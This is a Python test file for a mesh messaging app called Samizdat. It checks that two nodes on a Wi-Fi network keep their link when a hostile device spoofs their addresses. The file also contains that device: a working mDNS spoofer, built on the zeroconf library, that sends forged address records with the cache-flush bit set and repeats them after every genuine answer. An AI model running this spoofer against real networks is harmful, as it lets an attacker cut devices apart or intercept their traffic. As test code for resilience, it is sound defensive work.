"""A hostile device on the Wi-Fi claims its neighbours' addresses. mDNS has no authentication: an address record
(A) for a node's host name can come from anyone, and one sent with the cache-flush bit replaces the real one in
every listener's cache (RFC 6762 10.2); the newest address is also the first one a resolver lists. A node that
took the address of a service's latest announcement as the neighbour's only address would drop its link to the
real neighbour and link to the device instead: the device could then cut the two apart, or sit between them.

The device is this very file run as a program (``python test_lan_takeover.py claim ADDRESS``): it browses for
Samizdat services as any device on the Wi-Fi can and learns their host names; on ``forge`` it sends, every second
and again right after each real answer it hears, an address record with the cache-flush bit for every host name
it learnt, giving its own address; on ``stop`` it stops and says how many it sent.
"""

from __future__ import annotations

import json
import socket
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from lan_netns import PORT, DeviceProgram, Lab, LanNode, neighbours_and_device, wait_for
from lan_netns import peer_urls as urls

pytestmark = pytest.mark.slow

SERVICE_TYPE = "_samizdat._tcp.local."
DISCOVERY_TIMEOUT = 60.0
ARRIVAL_TIMEOUT = 30.0
HOLD_OWN = 120.0  # [lan] hold_own as init writes it: the longest a node holds its own new post
COMMAND_TIMEOUT = 30.0  # the device's answer to one command
FORGE_EVERY = 1.0  # seconds between two rounds of forged address records


# -- the device (runs as a program in its own namespace) -----------------------------------------------------------


def device(address: str) -> None:
    """Take JSON commands on stdin, answer each with a JSON line: ``names`` (the services heard and their host
    names), ``forge`` (start claiming every host name heard for ``address``), ``stop`` (stop; how many sent)."""
    from zeroconf import IPVersion, RecordUpdate, RecordUpdateListener, ServiceBrowser, ServiceStateChange, Zeroconf
    from zeroconf._dns import DNSAddress
    from zeroconf._protocol.outgoing import DNSOutgoing
    from zeroconf.const import _CLASS_IN, _CLASS_UNIQUE, _FLAGS_AA, _FLAGS_QR_RESPONSE, _TYPE_A

    zc = Zeroconf(interfaces=[address], ip_version=IPVersion.V4Only)
    mine = socket.inet_aton(address)
    names: set[str] = set()
    hosts: dict[str, str] = {}  # service name -> its host name (from its SRV record)
    sent = {"rounds": 0, "answers": 0}
    stop = threading.Event()
    forging = threading.Event()

    def forged() -> DNSOutgoing:
        out = DNSOutgoing(_FLAGS_QR_RESPONSE | _FLAGS_AA)
        for host in sorted(set(hosts.values())):
            out.add_answer_at_time(DNSAddress(host, _TYPE_A, _CLASS_IN | _CLASS_UNIQUE, 120, mine), 0)
        return out

    class Answers(RecordUpdateListener):
        """A real address record of a host we claim: claim it again at once (both are then cached, ours the
        newest, listed first), and again once the real one is over a second old (ours then flushes it)."""

        def async_update_records(self, zc: Zeroconf, now: float, records: list[RecordUpdate]) -> None:
            if not forging.is_set():
                return
            for update in records:
                record = update.new
                if isinstance(record, DNSAddress) and record.name in hosts.values() and record.address != mine:
                    sent["answers"] += 1
                    zc.async_send(forged())
                    assert zc.loop is not None
                    zc.loop.call_later(1.1, lambda: zc.async_send(forged()))
                    return

    def seen(zeroconf: Zeroconf, service_type: str, name: str, state_change: ServiceStateChange) -> None:
        if state_change is ServiceStateChange.Added:
            names.add(name)

    def forge() -> None:
        while not stop.wait(0 if sent["rounds"] == 0 else FORGE_EVERY):
            zc.send(forged())
            sent["rounds"] += 1

    browser = ServiceBrowser(zc, SERVICE_TYPE, handlers=[seen])
    zc.add_listener(Answers(), None)
    forger = threading.Thread(target=forge, daemon=True)
    try:
        for line in sys.stdin:
            command = json.loads(line)
            if command["do"] == "names":
                for name in sorted(names - hosts.keys()):
                    info = zc.get_service_info(SERVICE_TYPE, name, timeout=3000)
                    if info is not None and info.server:
                        hosts[name] = info.server
            elif command["do"] == "forge":
                forging.set()
                forger.start()
            elif command["do"] == "stop":
                forging.clear()
                stop.set()
                forger.join(10)
            print(json.dumps({"done": command["do"], "hosts": hosts, **sent}), flush=True)
    finally:
        stop.set()
        browser.cancel()
        zc.close()


if __name__ == "__main__":
    if sys.argv[1] == "claim":
        device(sys.argv[2])
    sys.exit(0)


# -- driving it from the test --------------------------------------------------------------------------------------


class Device(DeviceProgram):
    """The device's program in ``node``'s namespace (see :class:`DeviceProgram`)."""

    def __init__(self, lab: Lab, node: LanNode) -> None:
        super().__init__(lab, node, Path(__file__), "claim")


@pytest.fixture
def claimed(lab: Lab) -> Iterator[tuple[LanNode, LanNode, LanNode, Device]]:
    """A node and its honest neighbour that found each other, and a device on their Wi-Fi that learnt both host
    names (not yet forging)."""
    node, neighbour, device_node = neighbours_and_device(lab, DISCOVERY_TIMEOUT)
    with Device(lab, device_node) as device:
        wait_for(
            lambda: len(device.ask("names", COMMAND_TIMEOUT)["hosts"]) >= 2,
            DISCOVERY_TIMEOUT,
            "the device to learn both host names",
            interval=1.0,
        )
        yield node, neighbour, device_node, device


def test_forged_addresses_do_not_cut_a_node_off_its_neighbour(
    claimed: tuple[LanNode, LanNode, LanNode, Device],
) -> None:
    node, neighbour, device_node, device = claimed
    device_url = f"ws://{device_node.addr}:{PORT}"
    device.ask("forge", COMMAND_TIMEOUT)
    # Both nodes took the forged address (the device's claim reached them and was believed as an address)...
    wait_for(
        lambda: device_url in urls(node) and device_url in urls(neighbour),
        DISCOVERY_TIMEOUT,
        "the forged address on both nodes' peer lists",
    )
    # ...and yet, while the device goes on claiming their host names, posts cross both ways between them.
    there = neighbour.post("yard", "Water is off in blocks 3 to 9")
    wait_for(lambda: node.has(there), ARRIVAL_TIMEOUT, "the neighbour's post on the node")
    node.json("channel", "create", "block4", "--name", "Block 4")
    back = node.post("block4", "Block 4 has water: bring buckets")
    # The node hands its own new post to one neighbour first ([lan] hold_own, relay/embargo.py): when the device's
    # forged address is picked and drops it, the node pushes it itself once the hold ends (120 s at most).
    wait_for(lambda: neighbour.has(back), ARRIVAL_TIMEOUT + HOLD_OWN, "the node's post on the neighbour")
    assert neighbour.url in urls(node), "the node still knows its neighbour at its real address"
    assert node.url in urls(neighbour), "the neighbour still knows the node at its real address"
    assert "is also announced at" in node.output() + neighbour.output(), "the forged address was seen as one"
    sent = device.ask("stop", COMMAND_TIMEOUT)
    assert sent["rounds"] >= 2, f"the device forged all along: {sent}"
    assert node.running
    assert neighbour.running
